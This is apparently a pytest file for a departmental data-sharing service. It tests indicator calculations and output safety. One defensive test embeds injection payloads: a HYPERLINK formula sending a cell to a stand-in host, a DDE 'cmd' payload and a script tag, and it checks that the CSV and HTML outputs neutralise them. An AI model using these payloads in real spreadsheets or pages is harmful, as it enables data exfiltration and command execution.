"""Each sharing indicator on hand-made rows (SQLite), against the figure worked out by hand.

The integration test (tests/integration/test_indicators.py) checks them all again on a
real run, against counts made from the topics and the audit log.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy.orm import Session, sessionmaker

from exchange import audit
from exchange.core.db import transaction
from exchange.core.errors import ValidationError
from exchange.core.models import (
    CatalogueResource,
    ConnectorRun,
    Department,
    Entity,
    RecordVersion,
    RegistryRejection,
    SharingRequest,
    SourceRecord,
)
from exchange.core.spreadsheet import FORMULA_STARTS, cell
from exchange.indicators import Period, Scope, compute, month, period_of
from exchange.indicators.charts import BAR_AREA, LABEL_W, bar_chart
from exchange.indicators.daily import days_of
from exchange.indicators.freshness import freshness, intervals, timeliness
from exchange.indicators.linkage import linkage
from exchange.indicators.percentiles import nearest_rank, p50_p95
from exchange.indicators.publishing import publishing
from exchange.indicators.render import to_csv
from exchange.indicators.report import html
from exchange.indicators.requests import requests
from exchange.indicators.turnaround import turnaround
from tests.support.audit import decision
from tests.support.database import migrated

T0 = datetime(2026, 11, 2, tzinfo=UTC)  # a Monday
NOVEMBER = Period(datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 12, 1, tzinfo=UTC))
EVERYTHING = Scope()


@pytest.fixture
def sessions(tmp_path: Path) -> Iterator[sessionmaker[Session]]:
    with migrated(f"sqlite:///{tmp_path / 'indicators.db'}") as made:
        yield made


# --- percentiles and periods ----------------------------------------------------------------


@given(st.lists(st.integers(min_value=-(10**9), max_value=10**9), min_size=1, max_size=200))
def test_nearest_rank_is_numpys_inverted_cdf(values: list[int]) -> None:
    ordered = sorted(values)
    for p in (1, 50, 95, 99, 100):
        expected = np.percentile(np.array(values), p, method="inverted_cdf")
        assert nearest_rank(ordered, p) == int(expected)


def test_percentiles_of_nothing_are_none_not_zero() -> None:
    assert p50_p95([]) == (None, None)
    assert p50_p95([7]) == (7, 7)
    assert p50_p95(range(1, 21)) == (10, 19)  # 20 values: ranks 10 and 19


def test_a_month_runs_to_the_first_of_the_next() -> None:
    december = month("2026-12")
    assert (december.start, december.end) == (
        datetime(2026, 12, 1, tzinfo=UTC),
        datetime(2027, 1, 1, tzinfo=UTC),
    )
    assert month("2027-01").start == december.end


def test_the_default_period_is_the_last_30_days() -> None:
    now = datetime(2026, 12, 7, 20, 0, tzinfo=UTC)
    found = period_of(None, None, now=now)
    assert (found.start, found.end) == (now - timedelta(days=30), now)
    found = period_of("2026-11-01", "2026-11-03T08:00:00+08:00", now=now)
    assert (found.start, found.end) == (T0 - timedelta(days=1), T0 + timedelta(days=1))


@pytest.mark.parametrize(
    ("start", "end", "code"),
    [
        ("2026-11-05", "2026-11-01", "period.empty"),
        ("2026-11-31", None, "period.malformed"),
        ("2026-11-01T08:00:00", None, "period.no_zone"),
        # Millions of daily rows and intervals: any department's steward could ask.
        ("0001-01-01", "9999-12-31", "period.too_long"),
        ("2016-01-01", "2026-01-03", "period.too_long"),
    ],
)
def test_a_bad_period_is_refused_with_its_reason(start: str, end: str | None, code: str) -> None:
    with pytest.raises(ValidationError) as refused:
        period_of(start, end, now=datetime(2026, 12, 7, tzinfo=UTC))
    assert refused.value.reasons[0][1] == code
    with pytest.raises(ValidationError):
        month("2026-13")
    ten_years = period_of("2016-01-01", "2026-01-01", now=datetime(2026, 12, 7, tzinfo=UTC))
    assert (ten_years.end - ten_years.start).days == 3653


def test_intervals_are_the_calendar_ones_wholly_inside_the_period() -> None:
    period = Period(T0 + timedelta(hours=12), T0 + timedelta(days=15))
    days = intervals("daily", period)
    assert days[0] == (T0 + timedelta(days=1), T0 + timedelta(days=2))
    assert len(days) == 14
    assert intervals("weekly", period) == [(T0 + timedelta(days=7), T0 + timedelta(days=14))]
    assert intervals("monthly", period) == []  # no whole month inside
    assert len(intervals("monthly", Period(T0, T0 + timedelta(days=100)))) == 2  # Dec, Jan
    assert intervals("quarterly", Period(T0, T0 + timedelta(days=200))) == [
        (datetime(2027, 1, 1, tzinfo=UTC), datetime(2027, 4, 1, tzinfo=UTC))
    ]
    assert len(intervals("realtime", Period(T0, T0 + timedelta(days=1)))) == 24
    assert intervals("fortnightly", period) == []


# --- rows ---------------------------------------------------------------------------------


def _record(
    session: Session,
    department: str,
    dataset: str,
    source_id: str,
    *,
    entity: str | None = None,
    deleted: bool = False,
) -> SourceRecord:
    record = SourceRecord(
        dataset=dataset, department=department, source_id=source_id, version=1,
        content_hash="h", schema_id=1, payload={}, topic=f"std.{dataset}.v1", partition=0,
        offset=0, ingested_at=T0, entity_id=entity, deleted=deleted,
    )  # fmt: skip
    session.add(record)
    session.flush()
    return record


def _version(
    session: Session,
    record: SourceRecord,
    number: int,
    *,
    applied: datetime,
    changed: datetime | None,
    deleted: bool = False,
) -> None:
    session.add(
        RecordVersion(
            record_id=record.id,
            version=number,
            deleted=deleted,
            content_hash=f"h{number}",
            schema_id=1,
            payload=None if deleted else {},
            topic=record.topic,
            partition=0,
            offset=number,
            ingested_at=applied,
            source_changed_at=changed,
            applied_at=applied,
        )
    )


def test_published_and_rejected_by_department_dataset_and_reason(
    sessions: sessionmaker[Session],
) -> None:
    with transaction(sessions) as s:
        for run_id, started, read, published, rejected, reasons in [
            ("r1", T0, 10, 8, 2, {"date.invalid": 2, "key.missing": 1}),
            ("r2", T0 + timedelta(days=3), 5, 4, 1, {"date.invalid": 1}),
            ("r3", T0 - timedelta(days=5), 100, 100, 0, {}),  # October: not counted
        ]:
            s.add(
                ConnectorRun(
                    run_id=run_id,
                    connector_id="c",
                    department="hr",
                    dataset="person",
                    status="complete",
                    read=read,
                    published=published,
                    rejected=rejected,
                    reasons=reasons,
                    started_at=started,
                )
            )
        s.add(
            ConnectorRun(
                run_id="r4",
                connector_id="b",
                department="ca",
                dataset="benefit_payment",
                status="complete",
                read=3,
                published=3,
                rejected=0,
                reasons={},
                started_at=T0,
            )
        )
        for offset, reason, at in [
            (1, "unverified_record", T0),
            (2, "unverified_record", T0),
            (3, "bad_signature", T0),
            (4, "bad_signature", T0 + timedelta(days=40)),  # December
        ]:
            s.add(
                RegistryRejection(
                    at=at,
                    department="hr",
                    dataset="person",
                    reason=reason,
                    topic="std.person.v1",
                    partition=0,
                    offset=offset,
                )
            )
        record = _record(s, "hr", "person", "A")
        _version(s, record, 1, applied=T0, changed=None)
        _version(s, record, 2, applied=T0 + timedelta(days=1), changed=None, deleted=True)
    with sessions() as s:
        rows = publishing(s, NOVEMBER, EVERYTHING)
        only_hr = publishing(s, NOVEMBER, Scope(department="hr"))
    ca, hr = rows
    assert (hr.department, hr.dataset, hr.runs, hr.read, hr.published, hr.rejected) == (
        "hr", "person", 2, 15, 12, 3,
    )  # fmt: skip
    assert hr.rejected_by_reason == {"date.invalid": 3, "key.missing": 1}
    assert hr.registry_rejected == 3
    assert hr.registry_rejected_by_reason == {"bad_signature": 1, "unverified_record": 2}
    assert hr.applied == 2  # a withdrawal is a version applied too
    assert (ca.published, ca.registry_rejected, ca.applied) == (3, 0, 0)
    assert only_hr == [hr]


def test_freshness_counts_versions_without_a_change_time_apart(
    sessions: sessionmaker[Session],
) -> None:
    lags_h = [1, 2, 3, 4, 48]
    with transaction(sessions) as s:
        record = _record(s, "hr", "person", "A")
        for number, lag in enumerate(lags_h, start=1):
            applied = T0 + timedelta(days=number)
            _version(s, record, number, applied=applied, changed=applied - timedelta(hours=lag))
        _version(s, record, 6, applied=T0 + timedelta(days=6), changed=None)
        _version(s, record, 7, applied=T0 + timedelta(days=7), changed=None, deleted=True)
        _version(s, record, 8, applied=T0 - timedelta(days=3), changed=T0 - timedelta(days=9))
    with sessions() as s:
        [row] = freshness(s, NOVEMBER, EVERYTHING)
        assert freshness(s, NOVEMBER, Scope(dataset="organisation")) == []
    assert (row.versions, row.with_change_time, row.without_change_time) == (6, 5, 1)
    assert (row.p50_s, row.p95_s) == (3 * 3600, 48 * 3600)


def test_timeliness_against_the_declared_frequency(sessions: sessionmaker[Session]) -> None:
    week = Period(T0, T0 + timedelta(days=7))  # Monday to Monday: 7 whole days, 1 week
    with transaction(sessions) as s:
        s.add_all([Department(code="hr", name="HR"), Department(code="ca", name="CA")])
        s.flush()
        for dataset, owner, frequency in [
            ("person", "hr", "daily"),
            ("organisation", "hr", "weekly"),
            ("benefit_payment", "ca", "monthly"),
        ]:
            s.add(
                CatalogueResource(
                    dataset=dataset,
                    owner_department=owner,
                    title=dataset,
                    update_frequency=frequency,
                    sharing_type="conditional",
                    updated_by="t",
                )
            )
        mine = _record(s, "hr", "person", "A")
        theirs = _record(s, "ca", "person", "B")  # not the owner: does not count
        for number, day in enumerate([0, 0, 2, 3], start=1):
            _version(s, mine, number, applied=T0 + timedelta(days=day, hours=5), changed=None)
        for day in range(7):
            _version(s, theirs, day + 1, applied=T0 + timedelta(days=day), changed=None)
        org = _record(s, "hr", "organisation", "O")
        _version(s, org, 1, applied=T0 - timedelta(days=10), changed=None)
    with sessions() as s:
        benefits, organisations, persons = timeliness(s, week, EVERYTHING)
        assert timeliness(s, week, Scope(department="ca")) == [benefits]
    assert (persons.frequency, persons.expected_intervals, persons.intervals_with_data) == (
        "daily", 7, 3,
    )  # fmt: skip
    assert persons.share == pytest.approx(3 / 7)
    assert persons.newest_applied_at == T0 + timedelta(days=3, hours=5)
    assert persons.age_s == timedelta(days=3, hours=19).total_seconds()
    assert persons.within_frequency is False
    assert (organisations.expected_intervals, organisations.intervals_with_data) == (1, 0)
    assert organisations.age_s == timedelta(days=17).total_seconds()
    assert organisations.within_frequency is False
    assert (benefits.expected_intervals, benefits.share, benefits.newest_applied_at) == (
        0, None, None,
    )  # fmt: skip
    assert benefits.within_frequency is None


def test_linkage_rate_overall_and_per_department(sessions: sessionmaker[Session]) -> None:
    with transaction(sessions) as s:
        for entity, kind in [("P1", "person"), ("P2", "person"), ("P3", "person"),
                             ("P4", "person"), ("O1", "organisation")]:  # fmt: skip
            s.add(Entity(id=entity, kind=kind))
        s.flush()
        _record(s, "hr", "person", "1", entity="P1")
        _record(s, "ca", "person", "1", entity="P1")
        _record(s, "ca", "benefit_payment", "p1", entity="P1")
        _record(s, "hr", "person", "2", entity="P2")
        _record(s, "hr", "person", "2b", entity="P2")  # the same department twice: one
        _record(s, "hr", "person", "3", entity="P3")
        _record(s, "mr", "person", "3", entity="P3", deleted=True)  # withdrawn: not known
        _record(s, "mr", "person", "4", entity="P4")
        _record(s, "hr", "organisation", "o", entity="O1")
        _record(s, "mr", "organisation", "o", entity="O1")  # not a person
    with sessions() as s:
        found = linkage(s, EVERYTHING)
        scoped = linkage(s, Scope(department="hr"))
    assert (found.people, found.known_to_two_or_more, found.rate) == (4, 1, 0.25)
    assert [(d.department, d.people, d.known_elsewhere) for d in found.by_department] == [
        ("ca", 1, 1),
        ("hr", 3, 1),
        ("mr", 1, 0),
    ]
    assert [d.department for d in scoped.by_department] == ["hr"]
    assert scoped.rate == found.rate


def test_requests_served_and_refused_with_their_latency(sessions: sessionmaker[Session]) -> None:
    entries = [
        # (department, purpose, dataset, decision, latency_ms, at)
        ("ca", "mla", "person", "allow", 10, T0),
        ("ca", "mla", "person", "allow", 30, T0),
        ("ca", "mla", "person", "deny", 5, T0),
        ("ca", "mla", "benefit_payment,person", "allow", 50, T0),
        ("hr", "tax", "person", "deny", None, T0),  # written before latency was recorded
        ("ca", None, None, "allow", 2, T0),  # no purpose: not a data request
        ("ca", "mla", "person", "allow", 1000, T0 - timedelta(days=2)),  # October
    ]
    with transaction(sessions) as s:
        s.add(Department(code="hr", name="HR"))
        s.flush()
        s.add(
            CatalogueResource(
                dataset="person",
                owner_department="hr",
                title="persons",
                update_frequency="daily",
                sharing_type="conditional",
                updated_by="t",
            )
        )
        for n, (department, purpose, dataset, outcome, latency, at) in enumerate(entries, 1):
            made = decision(
                n, department=department, purpose=purpose, dataset=dataset, decision=outcome,
                status=200 if outcome == "allow" else 403,
                action="admin.read" if purpose is None else "person.lookup",
            )  # fmt: skip
            made.latency_ms = latency
            audit.append(s, made, at=at)
    with sessions() as s:
        served, latency = requests(s, NOVEMBER, EVERYTHING)
        owned, _ = requests(s, NOVEMBER, Scope(department="hr"))
        benefits, _ = requests(s, NOVEMBER, Scope(dataset="benefit_payment"))
    assert [(r.department, r.purpose, r.dataset, r.served, r.refused) for r in served] == [
        ("ca", "mla", "benefit_payment,person", 1, 0),
        ("ca", "mla", "person", 2, 1),
        ("hr", "tax", "person", 0, 1),
    ]
    assert (served[1].latency_p50_ms, served[1].latency_p95_ms) == (10, 30)
    assert (served[2].latency_p50_ms, served[2].latency_p95_ms) == (None, None)
    overall, lookups = latency
    assert (overall.action, overall.requests, overall.without_latency) == (None, 5, 1)
    assert (overall.p50_ms, overall.p95_ms) == (10, 50)  # of 5, 10, 30, 50
    assert (lookups.action, lookups.requests) == ("person.lookup", 5)
    # hr owns person: it sees the requests for it, made by anyone.
    assert sum(r.served + r.refused for r in owned) == 5
    assert [(r.dataset, r.served) for r in benefits] == [("benefit_payment,person", 1)]


def test_turnaround_from_submission_to_decision(sessions: sessionmaker[Session]) -> None:
    requests_made = [
        # (status, submitted, decided)
        ("approved", T0, T0 + timedelta(hours=2)),
        ("narrowed", T0, T0 + timedelta(hours=5)),
        ("refused", T0, T0 + timedelta(days=3)),
        ("submitted", T0, None),  # open
        ("approved", T0 + timedelta(days=27), T0 + timedelta(days=31)),  # decided in December
        ("withdrawn", T0, T0 + timedelta(hours=1)),  # not decided by the owner
        ("approved", T0 - timedelta(days=9), T0 - timedelta(days=8)),  # decided in October
    ]
    with transaction(sessions) as s:
        for status, submitted, decided in requests_made:
            s.add(
                SharingRequest(
                    dataset="person",
                    owner_department="hr",
                    requester_department="ca",
                    grantee_role="caseworker",
                    requested_by="a",
                    fields={},
                    purposes=["mla"],
                    legal_basis="l",
                    justification="j",
                    row_constraints={},
                    duration_days=30,
                    status=status,
                    submitted_at=submitted,
                    decided_at=decided,
                )
            )
    with sessions() as s:
        [row] = turnaround(s, NOVEMBER, EVERYTHING)
        assert turnaround(s, NOVEMBER, Scope(department="ca")) == []
    assert (row.department, row.dataset, row.decided) == ("hr", "person", 3)
    assert (row.approved, row.narrowed, row.refused, row.open) == (1, 1, 1, 2)
    assert (row.p50_s, row.p95_s) == (5 * 3600, 3 * 86400)


def test_csv_json_and_the_report_hold_every_figure(sessions: sessionmaker[Session]) -> None:
    with transaction(sessions) as s:
        s.add(
            ConnectorRun(
                run_id="r1",
                connector_id="c",
                department="hr",
                dataset="person",
                status="complete",
                read=3,
                published=2,
                rejected=1,
                reasons={"date.invalid": 1},
                started_at=T0,
            )
        )
    with sessions() as s:
        found = compute(s, NOVEMBER, EVERYTHING, now=T0)
    text = to_csv(found)
    assert text.splitlines()[0] == "section,department,dataset,dimension,figure,value"
    assert "publishing,hr,person,reason=date.invalid,rejected,1" in text
    assert "linkage,,,,rate," in text  # nothing to compute it from: empty, not 0
    assert type(found).model_validate_json(found.model_dump_json()) == found
    page = html(found, title="Sharing indicators, November 2026")
    assert page.count("<svg") == 10  # 8 figures' charts and 2 timelines
    assert "<script" not in page
    for external in ("http://", "https://", "src=", "href=", "url(", "@import", "<link"):
        assert external not in page


@given(
    st.lists(
        st.tuples(
            st.text(min_size=1, max_size=60),
            st.floats(min_value=0, max_value=1e9),
            st.floats(min_value=0, max_value=1e9),
        ),
        max_size=12,
    ),
    st.booleans(),
)
def test_chart_bars_stay_inside_their_area(
    rows: list[tuple[str, float, float]], stacked: bool
) -> None:
    chart = bar_chart("t", ["a", "b"], [(label, [x, y]) for label, x, y in rows], stacked=stacked)
    for bar in chart.bars:
        assert bar.x >= LABEL_W
        assert bar.x + bar.width <= LABEL_W + BAR_AREA + 1e-6
        assert 0 <= bar.y <= chart.height
    assert chart.empty == (not rows)
    if not rows:
        assert [t.text for t in chart.texts] == ["nothing in this period"]


def test_day_by_day_every_day_the_period_touches(sessions: sessionmaker[Session]) -> None:
    period = Period(T0 + timedelta(hours=12), T0 + timedelta(days=3, hours=1))
    assert days_of(period) == [(T0 + timedelta(days=n)).date() for n in range(4)]
    with transaction(sessions) as s:
        record = _record(s, "hr", "person", "A")
        for number, at in enumerate(
            [T0 + timedelta(hours=13), T0 + timedelta(hours=20), T0 + timedelta(days=2)], 1
        ):
            _version(s, record, number, applied=at, changed=None)
        _version(s, record, 4, applied=T0 + timedelta(hours=1), changed=None)  # before
        s.add(
            ConnectorRun(
                run_id="r1", connector_id="c", department="hr", dataset="person",
                status="complete", read=10, published=6, rejected=4, reasons={},
                started_at=T0 + timedelta(days=1, hours=3),
            )
        )  # fmt: skip
        s.add(
            RegistryRejection(
                at=T0 + timedelta(days=3), department="hr", dataset="person",
                reason="bad_signature", topic="std.person.v1", partition=0, offset=1,
            )
        )  # fmt: skip
        for n, (outcome, at) in enumerate(
            [("allow", T0 + timedelta(hours=14)), ("deny", T0 + timedelta(days=2, hours=5))], 1
        ):
            audit.append(s, decision(n, decision=outcome), at=at)
    with sessions() as s:
        found = compute(s, period, EVERYTHING, now=T0)
        other = compute(s, period, Scope(department="ca"), now=T0)
    rows = [
        (d.day.day, d.applied, d.rejected, d.registry_rejected, d.served, d.refused)
        for d in found.daily
    ]
    assert rows == [
        (2, 2, 0, 0, 1, 0),
        (3, 0, 4, 0, 0, 0),
        (4, 1, 0, 0, 0, 1),
        (5, 0, 0, 1, 0, 0),
    ]
    assert sum(d.applied for d in found.daily) == found.publishing[0].applied
    assert [d.applied + d.rejected + d.registry_rejected for d in other.daily] == [0] * 4


def test_a_change_time_after_the_applied_time_is_counted_apart_not_in_the_percentiles(
    sessions: sessionmaker[Session],
) -> None:
    """A department cannot make its data look fresher by dating rows in the future."""
    with transaction(sessions) as s:
        record = _record(s, "hr", "person", "A")
        for number, lag in enumerate([2, 4, 6], start=1):
            applied = T0 + timedelta(days=number)
            _version(s, record, number, applied=applied, changed=applied - timedelta(hours=lag))
        for number in (4, 5, 6, 7):  # dated a year ahead
            applied = T0 + timedelta(days=number)
            _version(s, record, number, applied=applied, changed=applied + timedelta(days=365))
    with sessions() as s:
        [row] = freshness(s, NOVEMBER, EVERYTHING)
    assert (row.versions, row.with_change_time, row.change_time_ahead) == (7, 7, 4)
    assert (row.p50_s, row.p95_s) == (4 * 3600, 6 * 3600)


HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"open")'


def test_names_a_producer_claims_never_reach_a_spreadsheet_as_formulas_or_the_report_as_markup(
    sessions: sessionmaker[Session],
) -> None:
    """A registry rejection keeps the department and dataset a record's headers claimed:
    whoever can produce chooses them. The CSV quotes a cell that would start a formula,
    the HTML report escapes markup."""
    claims = [(HOSTILE, "+cmd|' /C calc'!A0"), ("@SUM(1+1)", "-2+3"), ("<script>x</script>", "p")]
    with transaction(sessions) as s:
        for offset, (department, dataset) in enumerate(claims):
            s.add(
                RegistryRejection(
                    at=T0, department=department, dataset=dataset, reason="bad_signature",
                    topic="std.person.v1", partition=0, offset=offset,
                )
            )  # fmt: skip
    with sessions() as s:
        found = compute(s, NOVEMBER, EVERYTHING, now=T0)
    cells = [c for line in csv.reader(io.StringIO(to_csv(found))) for c in line]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for department, dataset in claims[:2]:
        assert "'" + department in cells
        assert "'" + dataset in cells
    page = html(found, title="Sharing indicators, November 2026")
    assert "<script" not in page
    assert "&lt;script&gt;" in page


@given(st.text(max_size=40))
def test_a_csv_cell_never_starts_a_formula_and_keeps_its_text(text: str) -> None:
    written = cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert written in (text, "'" + text)


def test_an_owner_sees_of_anothers_request_only_its_own_datasets(
    sessions: sessionmaker[Session],
) -> None:
    """An answer's audit entry names every dataset it drew on; the owner of one of them
    (hr, owning person) sees that civil affairs asked for person, not which other
    departments' datasets the same answer held (benefit_payment, social_insurance)."""
    with transaction(sessions) as s:
        s.add(Department(code="hr", name="HR"))
        s.flush()
        s.add(
            CatalogueResource(
                dataset="person", owner_department="hr", title="persons",
                update_frequency="daily", sharing_type="conditional", updated_by="t",
            )
        )  # fmt: skip
        for n, (department, dataset) in enumerate(
            [
                ("ca", "benefit_payment,person,social_insurance"),
                ("ca", "benefit_payment"),
                ("hr", "benefit_payment,person"),  # hr's own request: all of it is hr's
            ],
            1,
        ):
            made = decision(n * 3 + 1, department=department, purpose="mla", dataset=dataset)
            audit.append(s, made, at=T0)
    with sessions() as s:
        as_owner, _ = requests(s, NOVEMBER, Scope(department="hr"))
        one, _ = requests(s, NOVEMBER, Scope(department="hr", dataset="person"))
        everything, _ = requests(s, NOVEMBER, EVERYTHING)
    assert [(r.department, r.dataset, r.served) for r in as_owner] == [
        ("ca", "person", 1),
        ("hr", "benefit_payment,person", 1),
    ]
    assert [(r.department, r.dataset) for r in one] == [
        ("ca", "person"),
        ("hr", "benefit_payment,person"),
    ]
    assert ("ca", "benefit_payment,person,social_insurance") in [
        (r.department, r.dataset) for r in everything
    ]
